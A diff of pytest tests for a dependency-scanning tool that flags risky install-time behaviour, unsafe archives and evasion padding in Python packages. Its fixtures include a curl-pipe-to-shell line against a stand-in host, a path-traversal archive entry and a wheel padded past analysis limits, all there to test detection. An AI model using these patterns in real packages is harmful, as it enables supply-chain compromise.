@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import random
 import sqlite3
 from collections.abc import Iterator
 from pathlib import Path
@@ -19,6 +20,21 @@ BENIGN = "def run():\n    return 1\n"
 SHELL = "import subprocess\n\ndef run():\n    return subprocess.run(['curl', 'https://example.com/x'])\n"
 SHELL_EVIDENCE = "return subprocess.run(['curl', 'https://example.com/x'])"
 INSTALL_CURL = "import os\nos.system('curl https://x.example/i.sh | sh')\n"
+INSTALL_NETWORK_BLOCKS = "alerts:\n  install-network: block  # the deprecated name\n"
+PADDED_PAYLOAD = "VERSION = '1.0'\n"
+
+
+def padded_module(size: int) -> str:
+    """A module over the per-file analysis limit: code, then comments that compress only
+    about twofold (so no bomb check fires) up to `size` characters."""
+    rng = random.Random(8)
+    lines = [PADDED_PAYLOAD]
+    total = len(PADDED_PAYLOAD)
+    while total < size:
+        line = f"# {rng.randbytes(60).hex()}\n"
+        lines.append(line)
+        total += len(line)
+    return "".join(lines)
 
 
 def publish(index: FakeIndex, name: str, version: str, files: dict[str, str]) -> None:
@@ -78,6 +94,10 @@ def fake() -> FakeIndex:
         "gone", "1.0", {"gone-1.0.tar.gz": build_sdist("gone", "1.0", {"gone/__init__.py": ""})}
     )
     index.fail("/files/gone/gone-1.0.tar.gz", 404, times=10**6)
+    # A wheel padded past the 20 MB per-file limit: an unknown project, and a ranked one.
+    padded = padded_module(21 * 1024 * 1024)
+    index.add_wheel("padded", "1.0", {"padded/__init__.py": padded})
+    index.add_wheel("requests", "99.0", {"requests/__init__.py": padded})
     # Hostile archives.
     index.add(
         "junk",
@@ -133,6 +153,15 @@ def test_inspect_json_shape(
 ) -> None:
     code, document = run_json(capsys, "inspect", "demo==2.0", *common(index_url, tmp_path))
     assert code == 0
+    # Four releases, the first in 2024 (by the simple API's upload times): neither new nor
+    # established, so the policy table's actions apply.
+    reputation = document.pop("reputation")
+    assert isinstance(reputation, dict)
+    assert (reputation["standing"], reputation["rank"], reputation["releases"]) == (
+        "ordinary",
+        None,
+        4,
+    )
     assert document == {
         "package": "demo",
         "version": "2.0",
@@ -146,6 +175,7 @@ def test_inspect_json_shape(
                 "line": 4,
                 "evidence": SHELL_EVIDENCE,
                 "artifact": "demo-2.0-py3-none-any.whl",
+                "adjusted_by": "",
             },
             {
                 "type": "no-source-link",
@@ -157,10 +187,12 @@ def test_inspect_json_shape(
                 "line": None,
                 "evidence": "",
                 "artifact": "",
+                "adjusted_by": "",
             },
         ],
         "incomplete": False,
         "incomplete_reasons": [],
+        "notes": [],
     }
 
 
@@ -244,7 +276,7 @@ def test_inspect_missing_release_is_incomplete(
         (
             "bomb",
             1,
-            [("unsafe-archive", "bomb/__init__.py")],
+            [("unsafe-archive", "bomb/__init__.py"), ("incomplete-analysis", None)],
             [
                 "bomb-1.0-py3-none-any.whl: 'bomb/__init__.py' not analyzed: "
                 "compression ratio above 100"
@@ -252,8 +284,8 @@ def test_inspect_missing_release_is_incomplete(
         ),
         (
             "junk",
-            0,
-            [],
+            1,
+            [("incomplete-analysis", None)],
             [
                 "junk-1.0.tar.gz: not a zip or tar archive",
                 "junk-1.0-py3-none-any.whl: unreadable zip: File is not a zip file",
@@ -262,7 +294,7 @@ def test_inspect_missing_release_is_incomplete(
         (
             "traversal",
             1,
-            [("unsafe-archive", "../../etc/evil.py")],
+            [("unsafe-archive", "../../etc/evil.py"), ("incomplete-analysis", None)],
             ["traversal-1.0.tar.gz: '../../etc/evil.py' not analyzed: path traversal (..)"],
         ),
     ],
@@ -343,20 +375,75 @@ def test_scan_upgrade_with_a_warning_passes_in_every_format(
     assert code == 0 and "demo" in markdown and "subprocess.run" in markdown
 
 
-def test_scan_install_time_curl_blocks(
+def test_scan_install_time_curl_blocks_when_the_policy_says_so(
     capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
 ) -> None:
+    # The base branch's policy blocks install-time processes under their v1 name; a stated
+    # action is never moved by reputation.
     repo = scan_repo(
-        tmp_path, {"requirements.txt": "evil==1.0\n"}, {"requirements.txt": "evil==2.0\n"}
+        tmp_path,
+        {"requirements.txt": "evil==1.0\n", ".github/capdiff.yml": INSTALL_NETWORK_BLOCKS},
+        {"requirements.txt": "evil==2.0\n"},
     )
     code, out, _ = scan(capsys, repo, index_url, tmp_path / "cache")
     assert code == 1
     document = json.loads(out)
     assert document["verdict"] == "block"
     (package,) = document["packages"]
-    assert ("install-network", "block", "setup.py", 2) in [
-        (a["type"], a["action"], a["file"], a["line"]) for a in package["alerts"]
+    assert ("block", "setup.py", 2) in [
+        (a["action"], a["file"], a["line"]) for a in package["alerts"]
     ]
+
+
+def test_scan_padded_wheel_of_an_unknown_package_blocks(
+    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
+) -> None:
+    repo = scan_repo(
+        tmp_path,
+        {"requirements.txt": "demo==1.0\n"},
+        {"requirements.txt": "demo==1.0\npadded==1.0\n"},
+    )
+    code, out, _ = scan(capsys, repo, index_url, tmp_path / "cache")
+    document = json.loads(out)
+    assert code == 1, document
+    assert document["verdict"] == "block"
+    (package,) = document["packages"]
+    (unverified,) = [a for a in package["alerts"] if a["type"] == "incomplete-analysis"]
+    assert unverified["action"] == "block"
+    assert unverified["message"].startswith(
+        "padded 1.0 could not be verified (new: first release "
+    )
+    # The reason names the file that was not read in full.
+    assert "padded/__init__.py" in unverified["message"]
+
+
+def test_scan_padded_wheel_of_a_ranked_project_is_neutral(
+    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
+) -> None:
+    repo = scan_repo(
+        tmp_path, {"requirements.txt": "demo==1.0\n"}, {"requirements.txt": "requests==99.0\n"}
+    )
+    code, out, _ = scan(capsys, repo, index_url, tmp_path / "cache")
+    document = json.loads(out)
+    assert code == 0, document
+    assert document["verdict"] == "incomplete"
+    (package,) = [p for p in document["packages"] if p["name"] == "requests"]
+    assert package["incomplete_reasons"]
+    assert "incomplete-analysis" not in [a["type"] for a in package["alerts"]]
+
+
+def test_scan_policy_relaxes_incomplete_analysis(
+    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
+) -> None:
+    relaxed = "alerts:\n  incomplete-analysis: warn\n"
+    repo = scan_repo(
+        tmp_path,
+        {"requirements.txt": "demo==1.0\n", ".github/capdiff.yml": relaxed},
+        {"requirements.txt": "demo==1.0\npadded==1.0\n"},
+    )
+    code, out, _ = scan(capsys, repo, index_url, tmp_path / "cache")
+    document = json.loads(out)
+    assert (code, document["verdict"]) == (0, "incomplete")
 
 
 def test_scan_bad_ref_is_exit_2(
@@ -401,14 +488,16 @@ def test_scan_follows_a_new_requirement(
     repo = scan_repo(
         tmp_path, {"requirements.txt": "parent==1.0\n"}, {"requirements.txt": "parent==2.0\n"}
     )
-    code, out, _ = scan(capsys, repo, index_url, tmp_path / "cache")
+    _, out, _ = scan(capsys, repo, index_url, tmp_path / "cache")
     document = json.loads(out)
-    assert code == 1, document
     by_name = {p["name"]: p for p in document["packages"]}
     assert sorted(by_name) == ["child", "parent"]
     child = by_name["child"]
     assert (child["change"], child["new_version"], child["via"]) == ("added", "1.0", ["parent"])
-    assert "install-network" in [a["type"] for a in child["alerts"]]
+    # Its setup.py runs curl: an install-time process (a payload for the threat layer).
+    assert {"install-network", "install-process", "install-time-payload"} & {
+        a["type"] for a in child["alerts"]
+    }
 
 
 def test_scan_missing_release_is_incomplete(
@@ -473,3 +562,160 @@ def test_index_credentials_never_reach_the_output(
     assert code == 0
     assert "wrong-secret" not in out + err
     assert f"HTTP 401 from {base}/simple/demo/" in out
+
+
+def test_scan_progress_goes_to_stderr_never_into_json(
+    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
+) -> None:
+    repo = scan_repo(
+        tmp_path,
+        {
+            "requirements.txt": "demo==1.0\nevil==1.0\nreqeusts==1.0\n",
+            ".github/capdiff.yml": INSTALL_NETWORK_BLOCKS,
+        },
+        {"requirements.txt": "demo==2.0\nevil==2.0\nparent==2.0\n"},
+    )
+    code, out, err = scan(capsys, repo, index_url, tmp_path / "cache")
+    assert code == 1
+    assert {p["name"] for p in json.loads(out)["packages"]} >= {"demo", "evil", "parent"}
+    lines = err.splitlines()
+    assert lines[0].startswith("capdiff: analyzed 0/3 packages (")
+    assert lines[-1].startswith("capdiff: analyzed 4/4 packages (")  # child, via parent
+
+
+def test_scan_sarif_points_at_the_manifest_line(
+    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
+) -> None:
+    from tests.report.test_sarif import assert_valid
+
+    repo = scan_repo(
+        tmp_path,
+        {
+            "requirements.txt": "idna==3.7\nevil==1.0\n",
+            ".github/capdiff.yml": INSTALL_NETWORK_BLOCKS,
+        },
+        {"requirements.txt": "idna==3.7\nevil==2.0\n"},
+    )
+    code, out, _ = scan(capsys, repo, index_url, tmp_path / "cache", "sarif")
+    assert code == 1
+    document = json.loads(out)
+    assert_valid(document)
+    results = document["runs"][0]["results"]
+    blocking = [r for r in results if r["level"] == "error"]
+    assert [r["ruleId"] for r in blocking] == ["install-time-payload"]
+    location = blocking[0]["locations"][0]["physicalLocation"]
+    assert location == {
+        "artifactLocation": {"uri": "requirements.txt", "uriBaseId": "%SRCROOT%"},
+        "region": {"startLine": 2},
+    }
+    assert "At setup.py:2 in evil-2.0.tar.gz: os.system(" in blocking[0]["message"]["text"]
+
+
+def test_inspect_and_compare_sarif(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
+    from tests.report.test_sarif import assert_valid
+
+    old = tmp_path / "demo-1.0-py3-none-any.whl"
+    new = tmp_path / "demo-2.0-py3-none-any.whl"
+    old.write_bytes(build_wheel("demo", "1.0", {"demo/__init__.py": BENIGN}))
+    new.write_bytes(build_wheel("demo", "2.0", {"demo/__init__.py": SHELL}))
+    args = ["--cache-dir", str(tmp_path / "c"), "--format", "sarif"]
+    for argv in (["inspect", str(new)], ["compare", str(old), str(new)]):
+        code, out, _ = run(capsys, *argv, *args)
+        assert code == 0
+        document = json.loads(out)
+        assert_valid(document)
+        (result,) = document["runs"][0]["results"]
+        assert result["ruleId"] == "shell"
+        assert result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == (
+            "demo/__init__.py"
+        )
+
+
+def _scan_side(
+    capsys: pytest.CaptureFixture[str], repo: Path, index_url: str, cache: Path, *extra: str
+) -> tuple[int, list[tuple[str, str]], str]:
+    code, out, err = run(
+        capsys, "scan", "--repo", str(repo), *extra, "--format", "json", *common(index_url, cache)
+    )
+    if code == 2:
+        return code, [], err
+    packages = json.loads(out)["packages"]
+    return code, [(p["name"], p["change"]) for p in packages], err
+
+
+def test_scan_worktree_and_staged_sides(
+    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
+) -> None:
+    repo = new_repo(tmp_path / "repo")
+    commit(
+        repo, {"requirements.txt": "demo==1.0\n", ".github/capdiff.yml": INSTALL_NETWORK_BLOCKS},
+        "base",
+    )
+    cache = tmp_path / "cache"
+    (repo / "requirements.txt").write_text("demo==2.0\n", encoding="utf-8")
+    # Without --head: the working tree against HEAD.
+    assert _scan_side(capsys, repo, index_url, cache)[:2] == (0, [("demo", "upgraded")])
+    # --staged: nothing staged yet.
+    assert _scan_side(capsys, repo, index_url, cache, "--staged")[:2] == (0, [])
+    git(repo, "add", "requirements.txt")
+    (repo / "requirements.txt").write_text("demo==1.0\n", encoding="utf-8")
+    assert _scan_side(capsys, repo, index_url, cache, "--staged")[:2] == (
+        0, [("demo", "upgraded")]
+    )
+    assert _scan_side(capsys, repo, index_url, cache)[:2] == (0, [])
+    # An untracked new manifest counts in the working tree.
+    (repo / "requirements-extra.txt").write_text("evil==2.0\n", encoding="utf-8")
+    assert _scan_side(capsys, repo, index_url, cache)[:2] == (1, [("evil", "added")])
+    with pytest.raises(SystemExit) as usage:
+        main(["scan", "--repo", str(repo), "--staged", "--head", "HEAD"])
+    assert usage.value.code == 2
+    assert "argument --head: not allowed with argument --staged" in capsys.readouterr().err
+
+
+def test_scan_staged_before_the_first_commit(
+    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
+) -> None:
+    repo = new_repo(tmp_path / "repo")
+    (repo / "requirements.txt").write_text("demo==2.0\n", encoding="utf-8")
+    git(repo, "add", "requirements.txt")
+    assert _scan_side(capsys, repo, index_url, tmp_path / "c", "--staged")[:2] == (
+        0, [("demo", "added")]
+    )
+
+
+def test_scan_reads_the_named_policy_at_the_base(
+    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
+) -> None:
+    policy = "alerts:\n  shell: block\n"
+    repo = new_repo(tmp_path / "repo")
+    commit(repo, {"requirements.txt": "demo==1.0\n", "ci/capdiff.yml": policy}, "base")
+    (repo / "requirements.txt").write_text("demo==2.0\n", encoding="utf-8")
+    (repo / "ci" / "capdiff.yml").write_text("alerts:\n  shell: ignore\n", encoding="utf-8")
+    code, packages, _ = _scan_side(
+        capsys, repo, index_url, tmp_path / "c", "--policy", "ci/capdiff.yml"
+    )
+    assert (code, packages) == (1, [("demo", "upgraded")])  # the base's "block" applies
+
+
+def test_scan_follows_a_changed_file_that_an_unchanged_requirements_file_includes(
+    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
+) -> None:
+    repo = new_repo(tmp_path / "repo")
+    commit(
+        repo,
+        {
+            "requirements.txt": "-r deps/common.txt\nidna==3.7\n",
+            "deps/common.txt": "demo==1.0\n",
+            "notes.txt": "not included by anything\n",
+        },
+        "base",
+    )
+    git(repo, "branch", "base")
+    commit(repo, {"deps/common.txt": "demo==2.0\n", "notes.txt": "changed\n"}, "bump")
+    code, packages, _ = _scan_side(capsys, repo, index_url, tmp_path / "c", "--base", "base",
+                                   "--head", "HEAD")
+    assert (code, packages) == (0, [("demo", "upgraded")])
+    # The same in the working tree and staged.
+    (repo / "deps" / "common.txt").write_text("demo==2.1\n", encoding="utf-8")
+    code, packages, _ = _scan_side(capsys, repo, index_url, tmp_path / "c")
+    assert (code, packages) == (0, [("demo", "upgraded")])
